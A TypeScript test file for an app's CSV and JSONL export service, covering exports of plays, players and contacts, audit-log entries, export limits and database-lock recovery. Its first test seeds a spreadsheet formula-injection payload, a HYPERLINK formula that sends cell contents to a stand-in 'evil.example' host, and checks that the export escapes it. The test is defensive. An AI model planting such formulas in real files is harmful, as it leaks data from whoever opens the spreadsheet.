import { assert, describe, it } from "@effect/vitest"
import { DateTime, Effect, Exit, Layer, Scope, Stream } from "effect"
import { SqlClient } from "effect/sql"
import { ContactsList } from "../../src/contacts/ContactsList.ts"
import type { Asked } from "../../src/exports/Export.ts"
import { Exports } from "../../src/exports/Exports.ts"
import { ExportsSettings } from "../../src/exports/ExportsSettings.ts"
import { Database } from "../../src/platform/postgres/Sql.ts"
import { layerOf } from "../../src/platform/settings/SettingsGroup.ts"
import { Slug } from "../../src/games/Game.ts"
import { parseCsv } from "../support/Csv.ts"
import { held } from "../support/service/Held.ts"
import { addGame, layerTime, record, Time } from "../support/service/Recording.ts"
import { lists, seedMany, seedPlays } from "../support/service/Seeded.ts"

const service = (env: Record<string, string> = {}) =>
  Exports.layer.pipe(
    Layer.provide(layerOf(ExportsSettings)),
    Layer.provideMerge(ContactsList.layer),
    Layer.provideMerge(lists),
    Layer.provideMerge(layerTime(env))
  )

const decode = (chunks: ReadonlyArray<Uint8Array>) => Buffer.concat(chunks).toString("utf8")

const take = (asked: Asked) =>
  Effect.scoped(
    Effect.flatMap(Exports, ({ start }) =>
      Effect.flatMap(start(asked), ({ bytes, ...file }) =>
        Effect.map(Stream.runCollect(bytes), (chunks) => ({ ...file, text: decode(chunks) }))
      )
    )
  )

type Wanted = Asked extends infer One ? (One extends Asked ? Omit<One, "format"> : never) : never

/** The lines of a CSV, each by the names of its columns. */
const csvOf = (asked: Wanted) =>
  Effect.map(take({ ...asked, format: "csv" }), ({ text }) => {
    assert.isTrue(text.startsWith("\uFEFF"))
    const [header = [], ...lines] = parseCsv(text.slice(1))
    for (const line of lines) assert.lengthOf(line, header.length)
    return lines.map((line) => Object.fromEntries(header.map((name, at) => [name, line[at]])))
  })

const jsonlOf = (asked: Wanted) =>
  Effect.map(take({ ...asked, format: "jsonl" }), ({ text }) =>
    text === ""
      ? []
      : text
          .trimEnd()
          .split("\n")
          .map((line) => JSON.parse(line) as Record<string, unknown>)
  )

const entries = Effect.flatMap(
  SqlClient.SqlClient,
  (sql) =>
    sql<{ action: string; details: unknown; via: string }>`
      select action, details, via from audit_entry where action like '%.export' order by id`
)

describe("exports", () => {
  it.live("of plays are the same in both formats, and do a spreadsheet no harm", () =>
    Effect.gen(function* () {
      const slug = yield* addGame()
      const evil = '=HYPERLINK("http://evil.example?"&A1,"Win, now")'
      const at = (second: number) => new Date(Date.parse("2026-11-20T11:00:00Z") + second * 1000)
      const ids = yield* seedPlays([
        {
          game: slug,
          email: "=cmd@shop.example",
          at: at(0),
          name: evil,
          score: -5,
          data: { line: 'a\n"b",c', n: 1e15 }
        },
        {
          game: slug,
          email: "žofie@bücher.example",
          at: at(1),
          name: "Žofie 🎡",
          consent: { textVersion: "@1", language: "cs" }
        },
        { game: slug, email: "bare@shop.example", at: at(2) }
      ])
      const csv = yield* csvOf({ what: "plays", game: slug })
      const jsonl = yield* jsonlOf({ what: "plays", game: slug })
      assert.deepStrictEqual(
        csv.map(({ id }) => id),
        ids
      )
      assert.deepStrictEqual(
        jsonl.map(({ id }) => id),
        ids
      )
      assert.deepInclude(csv[0], {
        email: "'=cmd@shop.example",
        name: `'${evil}`,
        score: "-5",
        number: "1",
        contact: "unknown",
        consentLanguage: ""
      })
      assert.deepStrictEqual(JSON.parse(csv[0]?.["data"] ?? ""), { line: 'a\n"b",c', n: 1e15 })
      assert.deepInclude(csv[1], { name: "Žofie 🎡", consentTextVersion: "'@1", consentLanguage: "cs", data: "" })
      assert.deepInclude(csv[2], { name: "", score: "", data: "" })
      assert.deepInclude(jsonl[0], {
        email: "=cmd@shop.example",
        name: evil,
        score: -5,
        consent: null,
        data: { line: 'a\n"b",c', n: 1e15 },
        playedAt: at(0)
          .toISOString()
          .replace(/\.\d+Z$/, `${csv[0]?.["playedAt"]?.slice(-5)}`)
      })
      assert.deepInclude(jsonl[1], { consent: { textVersion: "@1", language: "cs" }, data: null })
      const file = yield* take({ what: "plays", format: "csv", game: slug })
      assert.match(file.fileName, new RegExp(`^plays-${slug}-\\d{4}-\\d\\d-\\d\\dT\\d{6}Z\\.csv$`))
      assert.strictEqual(file.contentType, "text/csv; charset=utf-8; header=present")
    }).pipe(Effect.provide(service()))
  )

  it.live("of players and contacts have what is known of them, and the audit log says who took what", () =>
    Effect.gen(function* () {
      const slug = yield* addGame()
      const other = yield* addGame()
      const time = yield* Time
      for (const [game, email, more] of [
        [slug, "nora@shop.example", { name: "Nora" }],
        [slug, "nora@shop.example", { name: "Nora again" }],
        [other, "nora@shop.example", { name: "Nora elsewhere" }],
        [other, "vera@shop.example", {}]
      ] as const) {
        yield* record(game, email, more)
        time.adjust("1 second")
      }
      const all = yield* csvOf({ what: "players" })
      assert.deepStrictEqual(
        all.map(({ email, games, name, plays }) => [email, name, games, plays]),
        [
          ["nora@shop.example", "Nora elsewhere", "2", "3"],
          ["vera@shop.example", "", "1", "1"]
        ]
      )
      const [nora, ...none] = yield* jsonlOf({ what: "players", game: slug })
      assert.deepStrictEqual(none, [])
      assert.deepInclude(nora, { email: "nora@shop.example", name: "Nora again", games: 1, plays: 2 })
      assert.deepStrictEqual(yield* csvOf({ what: "players", to: DateTime.makeUnsafe("2026-01-01T00:00:00Z") }), [])

      const contacts = yield* jsonlOf({ what: "contacts" })
      assert.lengthOf(contacts, 2)
      assert.deepInclude(contacts[0], { email: "nora@shop.example", esp: "sandbox", verdict: "created", game: slug })
      const csv = yield* csvOf({ what: "contacts" })
      assert.deepStrictEqual(
        csv.map((line) => line["playId"]),
        contacts.map(({ playId }) => playId)
      )
      assert.deepStrictEqual(yield* csvOf({ what: "contacts", game: other }), csv.slice(1))
      for (const none of [
        { verdict: "rejected" } as const,
        { esp: "elsewhere" },
        { from: DateTime.makeUnsafe("2100-01-01T00:00:00Z") }
      ]) {
        assert.deepStrictEqual(yield* csvOf({ what: "contacts", ...none }), [])
      }

      const audited = yield* entries
      assert.lengthOf(audited, 9)
      assert.deepStrictEqual(audited[0], { action: "players.export", via: "service", details: { format: "csv" } })
      assert.deepStrictEqual(audited[2]?.details, { format: "csv", to: "2026-01-01T00:00:00.000Z" })
      assert.deepStrictEqual(audited[6], {
        action: "contacts.export",
        via: "service",
        details: { format: "csv", verdict: "rejected" }
      })
      assert.notInclude(JSON.stringify(audited), "nora")
    }).pipe(Effect.provide(service()))
  )

  it.live("of a game that is not there, or beyond the bound, are none, and leave no trace", () =>
    Effect.gen(function* () {
      const { start } = yield* Exports
      const slug = yield* addGame()
      const asked = { what: "plays", format: "csv", game: slug } as const
      const scopes = [yield* Scope.make(), yield* Scope.make()]
      for (const scope of scopes) yield* Scope.provide(start(asked), scope)
      assert.strictEqual((yield* Effect.flip(take(asked)))._tag, "TooManyExports")
      assert.lengthOf(yield* entries, 2)
      yield* Scope.close(scopes[0]!, Exit.void)
      assert.strictEqual((yield* take(asked)).text.split("\r\n").length, 2)
      // Whatever fails gives its place back.
      const nowhere = { ...asked, game: Slug.make("nowhere") }
      for (let n = 0; n < 3; n++) assert.strictEqual((yield* Effect.flip(take(nowhere)))._tag, "GameNotFound")
      assert.lengthOf(yield* entries, 3)
      yield* Scope.close(scopes[1]!, Exit.void)
    }).pipe(Effect.provide(service()))
  )

  it.live("fail in the middle when the database does not answer, and go on after a short pause", () =>
    Effect.gen(function* () {
      const { url } = yield* Database
      const { start } = yield* Exports
      const slug = yield* addGame()
      yield* seedMany({ game: slug, count: 1000, prefix: "p", at: new Date("2026-11-20T11:00:00Z") })
      const asked = { what: "plays", format: "jsonl", game: slug } as const
      const chunks: Array<Uint8Array> = []
      const lock = yield* Effect.scoped(
        Effect.gen(function* () {
          const { bytes } = yield* start(asked)
          const exit = yield* Effect.exit(
            Stream.runForEach(bytes, (chunk) =>
              Effect.gen(function* () {
                if (chunks.push(chunk) === 2) yield* held(url, (sql) => sql`lock table play in access exclusive mode`)
              })
            )
          )
          return exit
        })
      )
      assert.isTrue(Exit.isFailure(lock))
      const lines = decode(chunks).trimEnd().split("\n")
      assert.isAtLeast(lines.length, 400)
      assert.isBelow(lines.length, 1000)

      // A lock that is gone in time is only a pause.
      const whole: Array<Uint8Array> = []
      yield* Effect.scoped(
        Effect.gen(function* () {
          const { bytes } = yield* start(asked)
          yield* Stream.runForEach(bytes, (chunk) =>
            Effect.gen(function* () {
              if (whole.push(chunk) !== 2) return
              const { release } = yield* held(url, (sql) => sql`lock table play in access exclusive mode`)
              yield* Effect.forkScoped(Effect.delay(release, "300 millis"))
            })
          )
        })
      )
      const scores = decode(whole)
        .trimEnd()
        .split("\n")
        .map((line) => (JSON.parse(line) as { score: number }).score)
      assert.deepStrictEqual(
        scores,
        Array.from({ length: 1000 }, (_, n) => n + 1)
      )
    }).pipe(Effect.provide(service({ DATABASE_STATEMENT_TIMEOUT: "150 millis", DATABASE_DEADLINE: "1500 millis" })))
  )
})
